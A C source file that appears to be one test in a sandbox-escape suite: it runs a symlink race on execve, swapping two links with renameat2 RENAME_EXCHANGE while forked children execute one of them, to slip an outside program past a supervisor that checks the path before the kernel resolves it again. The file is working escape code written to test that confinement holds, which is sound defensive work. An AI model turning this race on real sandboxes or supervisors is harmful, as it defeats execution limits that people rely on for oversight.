/* e0206-exec-symlink-race - symlink race on execve.
 *
 * Attack: two symbolic links, "e0206-link" to an allowed program and
 * "e0206-other" to a program outside the allowed tree, swap names again
 * and again (renameat2 RENAME_EXCHANGE, one call per swap) while children,
 * several at a time, execve "e0206-link".  A supervisor that resolves the
 * link when it checks, then lets the kernel resolve it again, runs the
 * outside program when the link changes in between.  Both programs are
 * copies of esc-tool run as "ident": only the outside copy prints a real
 * token; the parent stops when it sees one.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (symbolic link races);
 * doc/races.md, section 2 (execve keeps the program's own spelling; the
 * file that runs is checked at the exec event).
 * Usage: e0206-exec-symlink-race ALLOWED-PROGRAM OUTSIDE-PROGRAM */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

#define AT_ONCE 4

static volatile int stop;
extern char **environ;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop)
		syscall(SYS_renameat2, AT_FDCWD, "e0206-link", AT_FDCWD, "e0206-other",
			RENAME_EXCHANGE);
	return NULL;
}

/* Runs the link AT_ONCE times at once; true if one printed a real token. */
static bool run_round(long *ran)
{
	int p[2];
	pid_t kids[AT_ONCE];
	if (pipe(p) < 0)
		esc_die("pipe");
	for (int i = 0; i < AT_ONCE; i++) {
		kids[i] = fork();
		if (kids[i] < 0)
			esc_die("fork");
		if (kids[i] == 0) {
			char *args[] = { (char *)"e0206", (char *)"ident", NULL };
			dup2(p[1], 1);
			execve("e0206-link", args, environ);
			_exit(127);
		}
	}
	close(p[1]);
	char buf[1024];
	ssize_t n = esc_read_fd(p[0], buf, sizeof buf);
	close(p[0]);
	for (int i = 0; i < AT_ONCE; i++)
		waitpid(kids[i], NULL, 0);
	bool got = false;
	for (char *line = n > 0 ? strtok(buf, "\n") : NULL; line; line = strtok(NULL, "\n")) {
		if (strncmp(line, "ident ", 6) != 0)
			continue;
		(*ran)++;
		if (line[6] != '_' && !got) {
			printf("the link ran: %s\n", line);
			got = true;
		}
	}
	return got;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0206-exec-symlink-race ALLOWED-PROGRAM OUTSIDE-PROGRAM");
	unlink("e0206-link");
	unlink("e0206-other");
	if (symlink(argv[1], "e0206-link") < 0 || symlink(argv[2], "e0206-other") < 0)
		esc_die("symlink");
	pthread_t t;
	if (pthread_create(&t, NULL, swapper, NULL) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long ran = 0;
	bool got = false;
	esc_race_init(&r);
	while (!got && esc_race_go(&r))
		got = run_round(&ran);
	printf("exec race: %ld rounds of %d, %ld ran\n", r.tries, AT_ONCE, ran);
	stop = 1;
	pthread_join(t, NULL);
	return 0;
}
